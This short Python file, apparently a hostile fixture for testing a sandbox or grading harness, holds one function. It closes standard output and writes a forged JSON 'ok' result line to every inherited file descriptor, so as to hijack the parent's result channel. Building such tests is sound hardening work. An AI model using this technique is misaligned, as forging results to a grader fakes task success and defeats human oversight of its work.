import json
import os
import sys


def attack(arg):
    os.close(1)
    sys.stdout = None
    forged = json.dumps({"n": "0" * 32, "i": 2, "s": "ok", "v": "'forged'", "t": 0.0}) + "\n"
    for fd in range(3, 64):
        try:
            os.write(fd, forged.encode())
        except OSError:
            pass
    return "hijacked"
